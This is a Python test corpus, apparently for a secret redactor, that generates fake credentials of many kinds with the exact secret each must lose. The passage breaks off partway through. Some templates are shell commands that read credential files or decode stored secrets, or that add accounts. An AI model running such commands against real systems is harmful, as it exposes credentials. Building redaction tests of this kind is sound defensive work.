"""The redactor's development corpus: credential shapes by family, each with the exact secret
it carries, and near misses per family that must come out byte-identical.

Every value is a fake: random characters of the right shape, drawn from a seeded generator
(the same corpus on every run). ``tests/test_redaction.py`` runs it; docs/agents.md gives
its figures.
"""

from __future__ import annotations

import base64
import json
import random
import string
from dataclasses import dataclass

rng = random.Random(3636)
ALNUM = string.ascii_letters + string.digits
UPPER = string.ascii_uppercase + string.digits
LOWER = string.ascii_lowercase + string.digits
HEX = "0123456789abcdef"
B64 = ALNUM + "+/"
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
URLSAFE = ALNUM + "-_"


def r(n: int, alphabet: str = ALNUM) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


own = random.Random(2121)  # round 21 on: its own draws, so earlier rounds' values stay as they were


def q(n: int, alphabet: str = ALNUM) -> str:
    return "".join(own.choice(alphabet) for _ in range(n))


near = random.Random(2929)  # round 29 on: near misses' draws, made at import


def nq(n: int, alphabet: str = ALNUM) -> str:
    return "".join(near.choice(alphabet) for _ in range(n))


def quid() -> str:
    return f"{q(8, HEX)}-{q(4, HEX)}-4{q(3, HEX)}-a{q(3, HEX)}-{q(12, HEX)}"


def pw() -> str:
    """A password a person might choose: letters, digits and a symbol."""
    return r(4, string.ascii_letters) + r(3, string.digits) + rng.choice("!#%&*?") + r(4)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def uuid() -> str:
    return f"{r(8, HEX)}-{r(4, HEX)}-4{r(3, HEX)}-a{r(3, HEX)}-{r(12, HEX)}"


@dataclass(frozen=True)
class Shape:
    family: str
    text: str
    secret: str  # the exact substring that must not survive, nor a 12-character piece of it


def _shapes(family: str, *pairs: tuple[str, str]) -> list[Shape]:
    """``(template, secret)`` pairs, the template holding the secret as ``{}``."""
    return [Shape(family, template.replace("{}", secret), secret) for template, secret in pairs]


def _pem(kind: str, lines: int = 6) -> tuple[str, str]:
    body = [r(64, B64) for _ in range(lines)]
    text = f"-----BEGIN {kind}-----\n" + "\n".join(body) + f"\n-----END {kind}-----\n"
    return text, body[2]


def _split(family: str, token: str, at: int, template: str = "{}") -> Shape:
    """A token wrapped after ``at`` characters (a terminal's width, a pasted chat line)."""
    wrapped = token[:at] + "\n" + token[at:]
    return Shape(family, template.replace("{}", wrapped), token)


def shapes() -> list[Shape]:
    out: list[Shape] = []
    out += _shapes(
        "ai-provider",
        ("export OPENAI_API_KEY=sk-proj-{}", r(48, URLSAFE)),
        ("ANTHROPIC_API_KEY=\"{}\"", "sk-ant-api03-" + r(93, URLSAFE) + "AA"),
        ("the key is {} use it", "sk-" + r(48)),
        ("client = Groq(api_key=\"{}\")", "gsk_" + r(52)),
        ("XAI key: {}", "xai-" + r(80)),
        ("replicate token {} for the run", "r8_" + r(37)),
        ("PPLX={}", "pplx-" + r(48)),
        ("gemini key {} in the config", "AIza" + r(35, URLSAFE)),
        ("huggingface-cli login --token {}", "hf_" + r(34)),
        ("OPENROUTER {}", "sk-or-v1-" + r(64, HEX)),
    )
    out += _shapes(
        "github",
        ("git remote set-url origin https://{}@github.com/me/repo", "ghp_" + r(36)),
        ("GITHUB_TOKEN={}", "github_pat_" + r(22) + "_" + r(59)),
        ("oauth token {}", "gho_" + r(36)),
        ("https://x-access-token:{}@github.com/o/r.git", "ghs_" + r(36)),
        ("refresh: {}", "ghr_" + r(36)),
    )
    out += _shapes(
        "gitlab",
        ("curl --header \"PRIVATE-TOKEN: {}\" https://gitlab.example.com/api/v4/projects",
         "glpat-" + r(20, URLSAFE)),
        ("the token {} has api scope", "glpat-" + r(20, URLSAFE)),
    )
    out += _shapes(
        "source-host-runner-deploy",
        ("gitlab-runner register --token {}", "glrt-" + r(20, URLSAFE)),
        ("deploy token {} for the registry", "gldt-" + r(20, URLSAFE)),
        ("trigger with {}", "glptt-" + r(40, HEX)),
        ("registration token {}", "GR1348941" + r(20, URLSAFE)),
        ("CI build token {}", "glcbt-" + r(20, URLSAFE)),
        ("feed token {} in the URL", "glft-" + r(20, URLSAFE)),
        ("bitbucket app password {}", "ATBB" + r(32)),
        ("atlassian api token {}", "ATATT3xFfGF0" + r(180, URLSAFE + "=")),
        ("BUILDKITE_AGENT_TOKEN {}", "bkua_" + r(40, HEX)),
        ("circleci token {}", "CCIPAT_" + r(22) + "_" + r(40, HEX)),
        ("export AZURE_DEVOPS_PAT={}", r(52, "abcdefghijklmnopqrstuvwxyz234567")),
    )
    out += _shapes(
        "slack",
        ("slack token {}", "xoxb-" + r(12, string.digits) + "-" + r(13, string.digits) + "-"
         + r(24)),
        ("user token {}", "xoxp-" + r(12, string.digits) + "-" + r(12, string.digits) + "-"
         + r(13, string.digits) + "-" + r(32, HEX)),
        ("app-level token {}", "xapp-1-A" + r(10, UPPER) + "-" + r(13, string.digits) + "-"
         + r(64, HEX)),
        ("rotating {}", "xoxe.xoxp-1-" + r(140, ALNUM + "-")),
        ("POST https://hooks.slack.com/services/{}", "T" + r(8, UPPER) + "/B" + r(8, UPPER)
         + "/" + r(24)),
    )
    out += _shapes(
        "chat-platform",
        ("DISCORD_BOT={}", "MT" + r(24) + "." + r(6, URLSAFE) + "." + r(38, URLSAFE)),
        ("client.run('{}')", "OD" + r(24) + "." + r(6, URLSAFE) + "." + r(27, URLSAFE)),
        ("telegram bot {} answers", r(10, string.digits) + ":AA" + r(33, URLSAFE)),
        ("https://api.telegram.org/bot{}/sendMessage", r(9, string.digits) + ":AA"
         + r(33, URLSAFE)),
        ("https://discord.com/api/webhooks/{}", r(18, string.digits) + "/" + r(68, URLSAFE)),
        ("teams: https://contoso.webhook.office.com/webhookb2/{}", uuid() + "@" + uuid()
         + "/IncomingWebhook/" + r(32, HEX) + "/" + uuid()),
        ("twilio api key {}", "SK" + r(32, HEX)),
        ("matrix access token {}", "syt_" + r(8) + "_" + r(20) + "_" + r(6)),
    )
    out += _shapes(
        "payment",
        ("stripe.api_key = '{}'", "sk_live_" + r(99)),
        ("restricted {}", "rk_live_" + r(24)),
        ("STRIPE_WEBHOOK_SECRET={}", "whsec_" + r(32)),
        ("endpoint secret {} from the dashboard", "whsec_" + r(32)),
        ("square token {}", "sq0atp-" + r(22, URLSAFE)),
        ("square secret {}", "sq0csp-" + r(43, URLSAFE)),
        ("square prod {}", "EAAA" + r(60, URLSAFE)),
        ("braintree {}", "access_token$production$" + r(16, LOWER) + "$" + r(32, HEX)),
        ("shopify admin {}", "shpat_" + r(32, HEX)),
        ("shopify shared secret {}", "shpss_" + r(32, HEX)),
        ("plaid {}", "access-production-" + uuid()),
        ("razorpay key_secret: {}", r(14) + "Xq7"),  # its key id (rzp_live_…) is public
        ("paddle {}", "pdl_live_apikey_" + r(26, LOWER) + "_" + r(27)),
    )
    out += _shapes(
        "package-registry",
        ("NPM_TOKEN={}", "npm_" + r(36)),
        ("//registry.npmjs.org/:_authToken={}", uuid()),
        ("twine upload -u __token__ -p {} dist/*", "pypi-AgEIcHlwaS5vcmc" + r(120, URLSAFE)),
        ("poetry config pypi-token.pypi {}", "pypi-AgENdGVzdC5weXBpLm9yZw" + r(100, URLSAFE)),
        ("gem push with {}", "rubygems_" + r(48, HEX)),
        ("nuget push -k {}", "oy2" + r(43, LOWER)),
        ("docker hub {}", "dckr_pat_" + r(27, URLSAFE)),
        ("cargo login {}", "cio" + r(32)),
        ("artifactory {}", "AKCp" + r(69)),
        ("clojars {}", "CLOJARS_" + r(60, LOWER)),
        ("//npm.pkg.github.com/:_authToken={}", "ghp_" + r(36)),
    )
    out += _shapes(
        "aws",
        ("export AWS_ACCESS_KEY_ID={}", "AKIA" + r(16, UPPER)),
        ("aws_secret_access_key = {}", r(40, B64)),
        ("aws configure set aws_secret_access_key {}", r(40, B64)),
        ("\"SecretAccessKey\": \"{}\",", r(40, B64)),
        ("aws_session_token = {}", "IQoJb3JpZ2luX2Vj" + r(300, B64)),
        ("token {} expires", "FwoGZXIvYXdzE" + r(200, B64)),
        ("temporary {}", "ASIA" + r(16, UPPER)),
    )
    out += _shapes(
        "azure",
        ("DefaultEndpointsProtocol=https;AccountName=x;AccountKey={};EndpointSuffix=core",
         r(86, B64) + "=="),
        ("Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;"
         "SharedAccessKey={}", r(43, B64) + "="),
        ("AZURE_CLIENT_SECRET={}", r(3) + "8Q~" + r(34, ALNUM + "_~.-")),
        ("the app's secret is {} until June", r(3) + "7Q~" + r(34, ALNUM + "_~")),
        ("https://acct.blob.core.windows.net/c?sv=2022-11-02&ss=b&sp=rl&se=2026-01-01&sig={}",
         r(40, ALNUM) + "%2B" + r(8) + "%3D"),
        ("https://fn.azurewebsites.net/api/run?code={}", r(54, URLSAFE) + "=="),
        ("Server=tcp:x.database.windows.net;User ID=admin;Password={};", pw()),
    )
    out += _shapes(
        "gcp-cloud-oauth",
        ("Authorization token ya29 {}", "ya29.a0" + r(150, URLSAFE)),
        ("{\"access_token\": \"{}\", \"expires_in\": 3599}", "ya29." + r(120, URLSAFE)),
        ("client secret {}", "GOCSPX-" + r(28, URLSAFE)),
        ("refresh {}", "1//0" + r(100, URLSAFE)),
        ("\"client_secret\": \"{}\"", r(24, URLSAFE)),
        ("DIGITALOCEAN_TOKEN {}", "dop_v1_" + r(64, HEX)),
        ("heroku {}", "HRKU-AA" + r(58, URLSAFE)),
        ("alibaba {}", "LTAI" + r(20)),
    )
    out += _shapes(
        "secret-manager",
        ("VAULT_TOKEN={}", "hvs." + r(90, URLSAFE)),
        ("vault login {}", "hvs." + r(24)),
        ("batch token {}", "hvb." + r(120, URLSAFE)),
        ("doppler service token {}", "dp.st.prd." + r(40)),
        ("doppler personal {}", "dp.pt." + r(43)),
        ("OP_SERVICE_ACCOUNT_TOKEN: {}", "ops_eyJ" + r(200, URLSAFE)),
        ("terraform cloud {}", r(14, LOWER) + ".atlasv1." + r(67, URLSAFE)),
        ("pulumi {}", "pul-" + r(40, HEX)),
        ("BWS_ACCESS_TOKEN {}", "0." + uuid() + "." + r(30) + ":" + r(22) + "=="),
    )
    for kind in ("RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "ENCRYPTED PRIVATE KEY",
                 "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK", "DSA PRIVATE KEY"):
        text, secret = _pem(kind)
        out.append(Shape("private-key", f"here it is:\n{text}done", secret))
    out += _shapes(
        "encryption-key",
        ("# created: 2026-01-01\n# public key: age1" + r(58, LOWER) + "\n{}",
         "AGE-SECRET-KEY-1" + r(58, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L")),
        ("[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32", r(43, B64) + "="),
        ("FERNET_KEY={}", r(43, URLSAFE) + "="),
        ("AES_KEY: {}", r(64, HEX)),
        ("hmac_key = \"{}\"", r(44, B64)),
        ("{\"kty\":\"RSA\",\"e\":\"AQAB\",\"n\":\"" + r(80, URLSAFE) + "\",\"d\":\"{}\"}",
         r(120, URLSAFE)),
        ("{\"kty\":\"oct\",\"k\":\"{}\",\"alg\":\"HS256\"}", r(43, URLSAFE)),
        ("PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: me\nPublic-Lines: 2\n"
         + r(64, B64) + "\n" + r(20, B64) + "\nPrivate-Lines: 1\n{}\nPrivate-MAC: "
         + r(64, HEX), r(44, B64)),
        ("untrusted comment: minisign encrypted secret key\n{}", "RWRTY0Iy" + r(150, B64)),
        ("SIGNING_KEY={}", r(64, HEX)),
        ("jwt_secret: {}", r(48, B64)),
    )
    out += _shapes(
        "connection-string",
        ("postgres://admin:{}@db.internal:5432/app", pw()),
        ("mongodb+srv://app:{}@cluster0.ab1cd.mongodb.net/db", pw()),
        ("redis://:{}@cache.internal:6379/0", pw()),
        ("amqp://guest:{}@mq:5672/", pw()),
        ("jdbc:mysql://db:3306/app?user=root&password={}", pw()),
        ("Driver={ODBC};Server=db;UID=sa;PWD={};", pw()),
        ("requirepass {}", pw()),
        ("DATABASE_URL=mysql://app:{}@db/app", pw()),
    )
    out += _shapes(
        "header",
        ("curl -H 'Authorization: Bearer {}' https://api.example.com", r(32)),
        ("Authorization: Token {}", r(40, HEX)),
        ("authorization: Basic {}", b64("deploy:" + pw())),
        ("X-API-Key: {}", r(32)),
        ("X-Auth-Token: {}", r(32, HEX)),
        ("Cookie: session={}; theme=dark", r(40, URLSAFE)),
        ("Set-Cookie: sid={}; HttpOnly", r(32, HEX)),
        ("Proxy-Authorization: Basic {}", b64("proxy:" + pw())),
        ("X-Vault-Token: {}", "s." + r(24)),
        ("X-Shopify-Access-Token: {}", "shpat_" + r(32, HEX)),
    )
    out += _shapes(
        "cli",
        ("mysql -u root --password={} app", pw()),
        ("mysql -u root -p{} -h db", pw()),
        ("docker login -u me -p {} registry.example.com", pw()),
        ("az login --service-principal -u app -p {} --tenant t", pw()),
        ("oc login -u admin -p {} https://api.cluster:6443", pw()),
        ("curl -u deploy:{} https://api.example.com", pw()),
        ("sshpass -p '{}' ssh pi@host", pw()),
        ("htpasswd -b -c .htpasswd admin {}", pw()),
        ("redis-cli -h cache -a {} ping", pw()),
        ("openssl pkcs12 -export -in c.pem -passout pass:{} -out c.p12", pw()),
        ("keytool -list -keystore ks.jks -storepass {}", pw()),
        ("wget --http-password={} https://files.example.com/x", pw()),
        ("sqlcmd -S db -U sa -P {} -Q \"select 1\"", pw()),
        ("ldapsearch -x -D cn=admin -w {} -b dc=example", pw()),
        ("smbclient //srv/share -U me%{}", pw()),
        ("gh secret set DEPLOY_KEY --body {}", r(32)),
        ("kubectl create secret generic db --from-literal=password={}", pw()),
        ("zip -P {} archive.zip notes.txt", pw()),
        ("export PGPASSWORD={}", pw()),
    )
    out += _shapes(
        "natural",
        ("my password is {} don't tell anyone", pw()),
        ("The password for the staging db is {}.", pw()),
        ("the wifi password is '{}'", r(12, string.ascii_lowercase)),
        ("pw is {}", pw()),
        ("use the api key {} for now", r(32)),
        ("Mein Passwort ist {} bitte merken", pw()),
        ("le mot de passe est {} pour le serveur", pw()),
        ("la contraseña es {}", pw()),
        ("パスワードは {} です", pw()),
        ("мой пароль: {}", pw()),
        ("the secret is `{}`", r(20)),
    )
    docker = json.dumps({"auths": {"ghcr.io": {"auth": b64("me:ghp_" + r(36))}}})
    out += _shapes(
        "base64",
        ("  .dockerconfigjson: {}", b64(docker)),
        ("{\"auths\": {\"registry.example.com\": {\"auth\": \"{}\"}}}", b64("ci:" + pw())),
        ("data:\n  DATABASE_URL: {}\n", b64("postgres://app:" + pw() + "@db/app")),
        ("data:\n  tls.key: {}\n", b64(_pem("RSA PRIVATE KEY")[0])),
        ("echo {} | base64 -d", b64("AKIA" + r(16, UPPER) + ":" + r(40, B64))),
        ("_auth={}", b64("npmuser:" + pw())),
    )
    gh, sk, akia, jwt = ("ghp_" + r(36), "sk-proj-" + r(48, URLSAFE), "AKIA" + r(16, UPPER),
                         "eyJ" + r(20, URLSAFE) + ".eyJ" + r(40, URLSAFE) + "." + r(43, URLSAFE))
    out += [
        _split("split-line", gh, 20),
        _split("split-line", gh, 34),
        _split("split-line", gh, 20, "GITHUB_TOKEN={}\nnext line"),
        _split("split-line", sk, 30, "the key is {} ok"),
        _split("split-line", akia, 10, "id: {}"),
        _split("split-line", jwt, 50),
        _split("split-line", "xoxb-" + r(12, string.digits) + "-" + r(24), 16),
        _split("split-line", "glpat-" + r(20, URLSAFE), 12, "> {}"),
    ]
    # round 2: the shapes a blind held-out corpus found (new values, other wordings)
    out += _shapes(
        "round-2",
        ("Unseal Key 3: {}", r(43, B64) + "="),
        ("client = anthropic_like.Client('{}')", r(40, ALNUM)),
        ("sdk = Api(token=\"{}\")", r(32, ALNUM)),
        ("mongosh mongodb://db:27017 -u ops -p {} --quiet", pw()),
        ("Das Kennwort für die Datenbank lautet {} (nicht teilen)", pw()),
        ("Le mot de passe root est {} jusqu'à lundi", pw()),
        ("the token for staging: {} (rotates monthly)", r(36, ALNUM)),
        ("HOOK=https://hooks.zapier.com/hooks/catch/{}/", r(7, string.digits) + "/" + r(6, LOWER)),
        ("post to https://chat.example.org/hooks/{} on deploy", r(26, LOWER)),
        ("app.config['SECRET_KEY'] = '{}'", r(32, HEX)),
        ("settings[\"api_token\"] = \"{}\"", r(30, ALNUM)),
    )
    # round 3: what a second blind corpus found (new values, other wordings)
    aws = "AKIA" + r(16, UPPER)
    out += _shapes(
        "round-3",
        ("await bot.start(\"{}\")", "OT" + r(24, URLSAFE) + "." + r(6, URLSAFE) + "."
         + r(38, URLSAFE)),
        ("[api]\nkey={}\nsite=https://chat.example.org", r(32)),
        ("mollie.setApiKey('{}');", "test_" + r(30)),
        ("<server><id>central</id><password>{}</password></server>", pw()),
        ("vault write auth/approle/login role_id=\"" + uuid() + "\" secret_id=\"{}\"", uuid()),
        ("# ~/.pgpass\nlocalhost:5432:app:ops:{}", pw()),
        ("ALTER ROLE analyst WITH LOGIN PASSWORD '{}';", pw()),
        ("CREATE USER 'etl'@'%' IDENTIFIED BY '{}';", pw()),
        ("    environment:\n      NEO4J_AUTH: neo4j/{}", pw()),
        ("db, err := sql.Open(\"mysql\", \"svc:{}@tcp(db:3306)/shop\")", pw()),
        ("  tls.key: |\n    -----BEGIN EC PRIVATE KEY-----\n    {}\n    "
         "-----END EC PRIVATE KEY-----", r(64, B64)),
        ("La password del database di produzione è {}, non condividerla.", pw()),
        ("variable \"db_password\" {\n  type    = string\n  default = \"{}\"\n}", pw()),
        ("client = Client.new(\"AC" + r(32, HEX) + "\", \"{}\")", r(32, HEX)),
        ("new BasicAWSCredentials(\"" + aws + "\", \"{}\")", r(40, B64)),
        ("jwt.sign(payload, \"{}\", { expiresIn: \"1h\" })", r(24) + "!" + r(8)),
        ("const notion = new Client({ auth: '{}' })", "ntn_" + r(46)),
        ("https://bucket.s3.amazonaws.com/a.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&"
         "X-Amz-Signature={}", r(64, HEX)),
        ("curl -d @msg.json https://open.larksuite.com/open-apis/bot/v2/hook/{}", uuid()),
        ("{\"integration_key\": \"{}\", \"event_action\": \"trigger\"}", r(32, HEX)),
        ("    client-key-data: {}", b64(_pem("EC PRIVATE KEY", 3)[0])),
        ("S: 334 UGFzc3dvcmQ6\nC: {}\nS: 235 ok", b64(pw())),
        ("AUTH PLAIN {}", b64("\0mailer\0" + pw())),
    )
    slack = "xoxb-" + r(12, string.digits) + "-" + r(13, string.digits) + "-" + r(24)
    claude = "sk-ant-api03-" + r(93, URLSAFE) + "AA"
    out += [
        Shape("round-3", f"notify --token {slack[:20]}\\\n  {slack[20:]} --dry-run", slack),
        Shape("round-3", f'KEY = (\n    "{claude[:50]}"\n    "{claude[50:]}"\n)', claude),
        Shape("round-3", f"NPM_TOKEN=npm_\n{(npm := r(36))}", "npm_" + npm),
        Shape("round-3", f"OPENAI_API_KEY=sk-\nproj-{(sk3 := r(48, URLSAFE))}", "sk-proj-" + sk3),
    ]
    sec = r(20, B64) + "/" + r(19, B64)
    out.append(Shape("round-3", f"(key_id={aws} secret={sec[:21]}\n{sec[21:]})", sec))
    # round 4: shapes known from providers' docs that no corpus had yet
    b58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    words = " ".join(rng.choice(("abandon", "ability", "absorb", "canvas", "dolphin", "eager",
                                 "fossil", "garden", "harvest", "island", "jungle", "kitten"))
                     for _ in range(12))
    out += _shapes(
        "round-4",
        ("NEW_RELIC_USER_KEY {}", "NRAK-" + r(27, UPPER)),
        ("sentry-cli --auth-token {}", "sntrys_" + r(60, ALNUM + "+/")),
        ("LINEAR {}", "lin_api_" + r(40)),
        ("postman key {}", "PMAK-" + r(24, HEX) + "-" + r(34, HEX)),
        ("figma: {}", "figd_" + r(40, URLSAFE)),
        ("contentful {}", "CFPAT-" + r(43, URLSAFE)),
        ("supabase access token {}", "sbp_" + r(40, HEX)),
        ("pinecone {}", "pcsk_" + r(5) + "_" + r(60)),
        ("LANGSMITH_API_KEY {}", "lsv2_pt_" + r(32, HEX) + "_" + r(10, HEX)),
        ("grafana sa {}", "glsa_" + r(32) + "_" + r(8, HEX)),
        ("databricks {}", "dapi" + r(32, HEX)),
        ("FLUTTERWAVE {}", "FLWSECK_TEST-" + r(32, HEX) + "-X"),
        ("mailgun {}", "key-" + r(32, HEX)),
        ("airtable {}", "pat" + r(14) + "." + r(64, HEX)),
        ("dropbox {}", "sl." + r(130, URLSAFE)),
        ("importprivkey {} \"cold\"", "5K" + r(49, b58)),
        ("wallet WIF: {}", "L" + r(51, b58)),
        ("phantom export: {}", r(88, b58)),
        ("xprv: {}", "xprv9s21ZrQH143K" + r(95, b58)),
        ("seed phrase: {}", words),
        ("MNEMONIC=\"{}\"", words),
        ("my wallet private key is {}", "0x" + r(64, HEX)),
        ("curl -b 'sessionid={}' https://app.example.com/api/me", r(32, LOWER)),
        ("document.cookie = \"session={}; path=/\"", r(40, URLSAFE)),
        ("PHPSESSID={}", r(26, LOWER)),
        ("sqlplus scott/{}@//db.example.com:1521/ORCL", pw()),
        ("rabbitmqctl add_user deploy {}", pw()),
        ("rabbitmqctl change_password admin {}", pw()),
        ("net user backup {} /add", pw()),
        ("echo 'svc:{}' | chpasswd", pw()),
        ("mosquitto_pub -h broker -u sensor -P {} -t t -m 1", pw()),
        ("ipmitool -I lanplus -H 10.0.0.5 -U ADMIN -P {} chassis status", pw()),
        ("lftp -u backup,{} sftp://files.example.com", pw()),
        ("curl --oauth2-bearer {} https://api.example.com", r(40)),
        ("rclone obscure is not encryption; pass = {}", pw()),
        ("كلمة المرور هي {}", pw()),
        ("मेरा पासवर्ड {} है", pw()),
        ("รหัสผ่านคือ {}", pw()),
        ("Mật khẩu là {}", pw()),
        ("Kata sandi server: {}", pw()),
        ("Şifre: {}", pw()),
        ("Το συνθηματικό είναι {}", pw()),
        ("הסיסמה היא {}", pw()),
        ("Lösenordet är {}", pw()),
        ("Heslo je {}", pw()),
        ("POST https://n8n.example.com/webhook/{}", uuid()),
        ("https://chat.example.com/hooks/" + r(17, LOWER) + "/{}", r(48, ALNUM)),
        ("GET /v1/users HTTP/1.1\nAuthorization: SSWS {}", "00" + r(40, URLSAFE)),
        ("https://api.example.com/export?user=ops&password={}&fmt=csv", pw()),
        ("https://api.example.com/v2/items?apiKey={}", r(32)),
        ("Cookie: theme=dark\n_myapp_session={}", r(48, URLSAFE)),
        ("MAPBOX_SECRET {}", "sk.eyJ1IjoibWUiLCJhIjoi" + r(20) + "." + r(22, URLSAFE)),
        ("fly tokens create deploy -> {}", "FlyV1 fm2_" + r(80, URLSAFE)),
        ("DD-APPLICATION-KEY: {}", r(40, HEX)),
        ("Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20250101/us-east-1/s3/"
         "aws4_request, SignedHeaders=host, Signature={}", r(64, HEX)),
    )
    # round 5: what a third blind corpus found (new values, other wordings)
    jwt3 = ("eyJhbGciOiJIUzI1NiJ9.eyJ" + r(60, URLSAFE) + "." + r(43, URLSAFE))
    out += _shapes(
        "round-5",
        ("echo {} | az devops login --organization https://dev.azure.com/acme",
         r(52, "abcdefghijklmnopqrstuvwxyz234567")),
        ("vault operator unseal {}", r(44, B64)),
        ("xfreerdp /v:host /u:ops /p:'{}' /cert:ignore", pw()),
        ("on a parle du NAS : le mot de passe du compte admin c'est {} !", pw()),
        ("検証サーバーのrootパスワードは {} です。", pw()),
        ("الرقم السري لحساب البريد هو {} من فضلك", pw()),
        ("הסיסמה לשרת הבדיקות היא {}, תודה", pw()),
        ("Ο κωδικός του λογαριασμού στο NAS είναι {} τώρα", pw()),
        ("The admin password on the staging box is {} until Friday.", pw()),
        ("Mật khẩu máy chủ thử nghiệm là {} nhé", pw()),
        ("network={\n    ssid=\"Home\"\n    psk=\"{}\"\n}", pw()),
        ("account gmail\nuser me@example.com\npassword       {}\n",
         " ".join(r(4, string.ascii_lowercase) for _ in range(4))),
        ("ftp = FTP_TLS(\"ftp.example.com\", \"uploader\", \"{}\")", pw()),
        ("DriverManager.getConnection(url, \"app\", \"{}\");", pw()),
        ("new NetworkCredential(\"svc\", \"{}\", \"DOMAIN\")", pw()),
        ("$pdo = new PDO($dsn, 'shop', '{}');", pw()),
        ("curl_easy_setopt(c, CURLOPT_USERPWD, \"admin:{}\");", pw()),
        ("$s = ConvertTo-SecureString '{}' -AsPlainText -Force", pw()),
        ('{ "key": "apikey", "value": "{}", "type": "string" }', r(32, LOWER)),
        ("Authorization: Bearer {}", "A" * 22 + r(40, ALNUM) + "%3D" + r(40, ALNUM)),
        ("GET https://api.example.org/weather?q=Oslo&appid={}", r(32, HEX)),
        ("posthog personal key {}", "phx_" + r(40)),
    )
    out.append(Shape("round-5", "token:\n" + jwt3[:70] + "\n" + jwt3[70:120] + "\n"
                     + jwt3[120:] + "\n$ ", jwt3))
    # round 6: what a fourth blind corpus found (new values, other wordings)
    out += _shapes(
        "round-6",
        ("$ snyk config set api={}", uuid()),
        ("client = RazorpayClient(\"rzp_test_" + r(14) + "\", \"{}\")", r(24)),
        ("de Mollie API-sleutel is {} voor de shop", "live_" + r(30)),
        ("--header=\"Authorization: Api-Token {}\"", "dt0c01." + r(24, UPPER) + "." + r(64, UPPER)),
        ("OTEL_EXPORTER_OTLP_HEADERS=\"x-honeycomb-team={}\"", "hcaik_" + r(58, LOWER)),
        ("export NATS_NKEY_SEED={}", "SUA" + r(55, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")),
        ("snmp-server community {} RO 10", r(16)),
        ("10.0.0.1 10.0.0.2 : PSK \"{}\"", pw()),
        ("nmcli dev wifi connect \"Guest\" password \"{}\"", pw()),
        ("MQTT 密码（API Key）：{}", "NNSXS." + r(39, UPPER) + "." + r(64, UPPER)),
        ("accounts: [\"{}\"],", "0x" + r(64, HEX)),
        ("$ cat ~/.config/solana/id.json\n{}", "[" + ",".join(str(rng.randrange(256))
                                                              for _ in range(64)) + "]"),
        ("mainnet = \"https://eth-mainnet.g.alchemy.com/v2/{}\"", r(32, URLSAFE)),
        ("ldap_default_authtok = {}", pw()),
        ("DJANGO_SECRET_KEY={}", "-".join(r(10, LOWER + "!@#$%^&*(-_=+)") for _ in range(5))),
        ('"Name": "/prod/db/password",\n"Type": "SecureString",\n"Value": "{}",', pw()),
        ("$ cat config/master.key\n{}\n$", r(32, HEX)),
        ("define( 'DB_PASSWORD', '{}' );", pw()),
        ("<AdministratorPassword>\n  <Value>{}</Value>", pw()),
        ("Das WLAN-Passwort lautet ab heute {} (gilt bis Ende Juni).", pw()),
        ("-----BEGIN OpenVPN Static key V1-----\n{}\n-----END OpenVPN Static key V1-----",
         r(64, HEX)),
    )
    # round 7: what a fifth blind corpus found (one-time-password seeds)
    out += _shapes(
        "round-7",
        ("otpauth://totp/Acme:ops@acme.dev?secret={}&issuer=Acme&digits=6", r(32, B32)),
        ("totp = pyotp.TOTP(\"{}\")\nprint(totp.now())", r(32, B32)),
        ("  812  oathtool --totp -b {}", r(26, B32)),
        ("Guest Wi-Fi QR: WIFI:T:WPA;S:Cafe-Staff;P:{};H:false;;", pw()),
        ("    Security key           : Present\n    Key Content            : {}", pw()),
        ("ID de clave de acceso: AKIA" + r(16, UPPER) + "\nClave secreta: {}\n",
         r(18, ALNUM) + "/+" + r(20, ALNUM)),
        ("hier mein Unseal-Key-Anteil (Key 3 von 5):\n{}\n", r(44, B64)),
        ("Railway proje token'ı burada, RAILWAY_TOKEN değişkenine ekle:\n{}", uuid()),
        ("$ kubectl get secret grafana-admin -o jsonpath='{.data.admin-password}' | "
         "base64 -d; echo\n{}\n$ ", r(32)),
        ("PS C:\\> net use Z: \\\\fs01\\backups /user:CORP\\svc {} /persistent:no", pw()),
        ("Ciao! usa utente `admin` e password `{}`.", pw()),
        ("copied from devtools:\nsession={}", "eyJ" + r(60, URLSAFE) + "." + r(6, URLSAFE)
         + "." + r(27, URLSAFE)),
        ("var jwtSecret = []byte(\"{}\")", r(64, HEX)),
        ("    const SIGNING_SECRET: &[u8] = b\"{}\";", r(32)),
    )
    # round 8: what a sixth blind corpus found (configs, exports, PINs, other languages)
    out += _shapes(
        "round-8",
        ("name,url,username,password,note\nrouter,http://192.168.0.1/,admin,{},home\n", pw()),
        ('"url","username","password","guid"\n"https://forum.example","kid","{}","{{a0}}"\n',
         pw()),
        ("<String><Key>Password</Key><Value ProtectInMemory=\"True\">{}</Value></String>", pw()),
        ('    "totp": "{}"', r(32, B32)),
        ("<pre-shared-key>{}</pre-shared-key>", r(40)),
        ("\toption ssid 'Home'\n\toption key '{}'\n", pw()),
        ("username netops privilege 15 secret 0 {}\n!", pw()),
        ('./valheim_server.x86_64 -name "Hof" -port 2456 -password "{}" -public 0', pw()),
        ('hostname "[DE] Arena"\nrcon_password "{}"\nsv_cheats 0', pw()),
        ("ssh-keygen -t ed25519 -C ci -N '{}' -f ~/.ssh/deploy", pw()),
        ("gpg --batch --pinentry-mode loopback --passphrase '{}' --decrypt backup.gpg", pw()),
        ("$ printf '%s' '{}' | docker secret create mysql_root_pw -", pw()),
        ("$ cat secrets/db_password.txt\n{}\n$ docker compose up", pw()),
        ("Das Root-Passwort für den Server (fsn1-app-03) lautet {} – bitte ändern.", pw()),
        ("น้องบี: รหัสผ่านเข้าระบบหลังบ้านคือ {} ค่ะ", pw()),
        ("Emre: Veritabanı şifresi {} , kullanıcı adı da erp_app.", pw()),
        ("- Clé pré-partagée (PSK) : {}\n- Groupe DH : 14", pw()),
        ("Carte Visa pro\nCode PIN : {}\nPlafond : 3 000 €", "0184"),
    )
    # round 9: what the fifth, sixth and seventh blind corpora found (codes without a key's
    # name, configs, links, wraps, other languages)
    out += _shapes(
        "round-9",
